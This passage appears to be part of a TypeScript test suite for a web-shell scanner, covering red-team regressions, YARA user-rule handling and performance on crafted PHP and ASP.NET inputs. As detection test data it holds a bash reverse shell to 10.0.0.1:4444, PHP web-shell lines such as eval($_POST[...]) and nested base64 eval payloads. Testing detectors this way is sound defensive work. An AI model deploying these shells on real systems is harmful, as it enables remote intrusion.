  h.write(body.length.toString(8).padStart(11, '0') + '\0', 124, 'latin1');
  h.write('00000000000\0', 136, 'latin1');
  h.write('        ', 148, 'latin1');
  h.write('0', 156, 'latin1');
  h.write('ustar\0' + '00', 257, 'latin1');
  let sum = 0;
  for (const b of h) sum += b;
  h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
  const data = Buffer.alloc(Math.ceil(body.length / 512) * 512);
  data.write(body, 0, 'latin1');
  return Buffer.concat([h, data]);
};

describe('scan: red team s25, data files (S25R-1)', () => {
  const shell = CASES[0]![3];
  it('S25R-1 (fixed here): the same script as a member of a site backup (tar): assets/app.map', () => {
    const tar = Buffer.concat([tarEntry('assets/app.map', shell), tarEntry('index.php', '<?php echo "hi";\n'), Buffer.alloc(1024)]);
    const r = scanner.scanBuffer(tar, '/backup/site.tar');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });

  it('data files without a script\'s words stay clean: CSS with system-ui and a base64 data URI, translations saying "system", a lock file', () => {
    const css = "body { font-family: system-ui, -apple-system, sans-serif; }\n.logo { background: url(data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==); }\n";
    const json = '{\n  "@metadata": { "authors": ["Someone"] },\n  "sysop-warning": "The system administrator can execute maintenance scripts from the command line.",\n  "apihelp-query-param-prop": "Which properties to get."\n}\n';
    for (const [src, path] of [[css, '/www/skins/main.css'], [json, '/www/i18n/en.json'], ['{"packages": [{"name": "psr/log", "version": "3.0.0"}]}\n', '/www/composer.lock']] as const) {
      const r = scan(src, path);
      assert.equal(r.verdict, 'clean', `${path}: ${JSON.stringify(r.findings)}`);
    }
  });

  it('a Markdown page quoting a reverse shell is read by our script rules as at 82bebf2 (malicious there too: the cost of S25R-1\'s fix is base\'s behaviour)', () => {
    const r = scan("# Pentest notes\n\n```\nbash -c 'sh -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n```\n", '/www/docs/notes.md');
    assert.equal(r.verdict, 'malicious');
  });
});

describe('scan: red team s25, the user\'s rules apart from ours', () => {
  const dir = mkdtempSync(join(tmpdir(), 'mamori-rt25-'));
  it('S25R-11 (fixed by 7b6ba76): a user\'s `global rule` no longer silences mamori\'s rules (at 82bebf2, compiled with ours, `global rule only_tiny { condition: filesize < 40 }` turned every one of our rules off in larger files)', () => {
    const file = join(dir, 'global.yar');
    writeFileSync(file, 'global rule only_tiny { condition: filesize < 40 }\nrule tiny_marker { strings: $a = "zzmarker" condition: $a }\n');
    const s = createScanner({ rules: [file] });
    const r = s.scanBuffer(Buffer.from('<?php eval($_POST["x"]); /* padding padding padding */\n'), '/www/a.php');
    assert.ok(r.findings.some((f) => f.rule === 'mamori_php_input_to_exec'), JSON.stringify(r.findings));
  });

  it('a user rule naming one of ours in its condition is left out with its reason, as at 82bebf2 (each user file was checked alone there too), and the scan goes on', () => {
    const file = join(dir, 'ref.yar');
    writeFileSync(file, 'rule my_small_exec { meta: score = 90 condition: mamori_php_input_to_exec and filesize < 2KB }\n');
    const s = createScanner({ rules: [file] });
    assert.ok(s.problems.some((p) => p.file === file && /unknown identifier/.test(p.message)), JSON.stringify(s.problems));
    assert.equal(s.scanBuffer(Buffer.from('<?php eval($_POST["x"]);\n'), '/www/a.php').verdict, 'malicious');
  });

  it('a user rule named as one of ours: both are reported, each from its own file, and ours keeps its score', () => {
    const file = join(dir, 'clash.yar');
    writeFileSync(file, 'rule mamori_php_input_to_exec { meta: score = 5 strings: $a = "harmless-zz" condition: $a }\n');
    const s = createScanner({ rules: [file] });
    const r = s.scanBuffer(Buffer.from('<?php eval($_POST["x"]); // harmless-zz\n'), '/www/a.php');
    const hits = r.findings.filter((f) => f.rule === 'mamori_php_input_to_exec');
    assert.deepEqual(hits.map((f) => [f.source, f.score]).sort(), [[file, 5], ['mamori/php.yar', 100]].sort(), JSON.stringify(r.findings));
    assert.equal(r.verdict, 'malicious');
  });
});

// S25R-3: the new analysers on crafted files (times printed, not asserted: compare with 82bebf2,
// where each of these takes about a millisecond)
describe('scan: red team s25, the cost of the new analysers (S25R-3)', () => {
  const fill = (head: string, unit: (i: number) => string, max: number): string => {
    let s = head;
    for (let i = 0; s.length + unit(i).length < max; i++) s += unit(i);
    return s;
  };
  const def = '<?php function f($t){$s="";foreach($t as $n)$s.=chr($n^7);return $s;} ';
  const cases: [string, string][] = [
    ['64 KB of socket reads, each into its own variable', fill('<?php fsockopen($h);', (i) => `$a${i}=fread($s);`, 65500)],
    ['64 KB of socket reads beside as many exec() calls', fill('<?php fsockopen($h);', (i) => `$a${i}=fread($s);exec($b);`, 65500)],
    ['64 KB of eval(a( calls with chr in the file', fill('<?php chr(1); ', () => 'eval(a(', 65500)],
    ['64 KB of unclosed assert(f( after a decoder', fill(def, () => 'assert(f(', 65000)],
    ['64 KB of eval($aN) after $aN = g()', fill(def + Array.from({ length: 3000 }, (_, i) => `$a${i}=g();`).join(''), () => 'eval($a1);', 65000)],
    ['32 KB of queries after a client given the form', fill('<?php $c=new mysqli($_POST["h"]); ', (i) => `$c->query($q${i});`, 32000)],
    ['4 MB of $GLOBALS table picks', '<?php ' + "$GLOBALS['t'][1].".repeat((4 << 20) / 17)],
  ];
  for (const [what, src] of cases) {
    it(`${what}: read once`, () => {
      const t = process.hrtime.bigint();
      phpShapes(src);
      const ms = Number(process.hrtime.bigint() - t) / 1e6;
      console.log(`# s25 cost: ${what} (${src.length} bytes): ${ms.toFixed(1)} ms (32363b3: up to 0.9 s for 64 KB)`);
    });
  }

  it('a 1.7 MB file of twenty base64 layers of 63 KB of socket reads: scanned (32363b3: 6.3 s, 82bebf2: 1.1 s)', () => {
    let s = 'fsockopen($h);';
    for (let i = 0; s.length < 63000; i++) s += `$a${i}=fread($s);`;
    const b = Buffer.from(s).toString('base64');
    let f = '<?php\n';
    for (let k = 0; k < 20; k++) f += `eval(base64_decode("${b}"));\n`;
    const t = process.hrtime.bigint();
    const r = scan(f, '/www/layers.php');
    const ms = Number(process.hrtime.bigint() - t) / 1e6;
    console.log(`# s25 cost: ${f.length} bytes of layers: ${ms.toFixed(0)} ms, ${r.verdict}`);
    assert.equal(r.verdict, 'malicious');
  });
});

// S25R-17: our ASP.NET process rules on crafted 4 MB pages (times printed, not asserted)
describe('scan: red team s25, the cost of the ASP.NET process rules (S25R-17)', () => {
  const M = 4 << 20;
  const cases: [string, string, number][] = [
    ['ProcessStartInfo("cmd", ', 'ProcessStartInfo("cmd", ', 2700],
    ['.Arguments = ', '.Arguments = ', 3400],
    ['.FileName = ', '.FileName = ', 4600],
    ['ProcessStartInfo("cmd", x.Text ', 'ProcessStartInfo("cmd", x.Text ', 0],
  ];
  for (const [what, unit, before] of cases) {
    it(`4 MB of ${JSON.stringify(what)}: scanned`, () => {
      const page = '<% Process.Start(); ProcessStartInfo "cmd" ' + unit.repeat(Math.floor(M / unit.length));
      const t = process.hrtime.bigint();
      const r = scanner.scanBuffer(Buffer.from(page, 'latin1'), '/www/a.aspx');
      const ms = Number(process.hrtime.bigint() - t) / 1e6;
      console.log(`# s25 cost: 4 MB of ${JSON.stringify(what)} in an .aspx: ${ms.toFixed(0)} ms${before ? ` (the one string alone: ${before} ms before S25R-17)` : ''}, ${r.verdict}`);
    });
  }
  it('S25R-17: the pages of the J fix (on two lines) and of the initializer are still caught', () => {
    for (const page of [CASES.find((c) => c[1].startsWith('S25R-10: $c2 still takes cmd.exe with a control\'s text, on two lines'))![3], CASES.find((c) => c[1].startsWith('S25R-15 (fixed here)'))![3]]) {
      assert.equal(scan(page, '/www/x.aspx').verdict, 'malicious');
    }
  });
  it('S25R-17: "CmdBox .Text", a space before the dot, is still read', () => {
    const page = CASES.find((c) => c[1].startsWith('S25R-15 (fixed here)'))![3].replace('CmdBox.Text', 'CmdBox .Text');
    assert.equal(scan(page, '/www/x.aspx').verdict, 'malicious');
  });
});
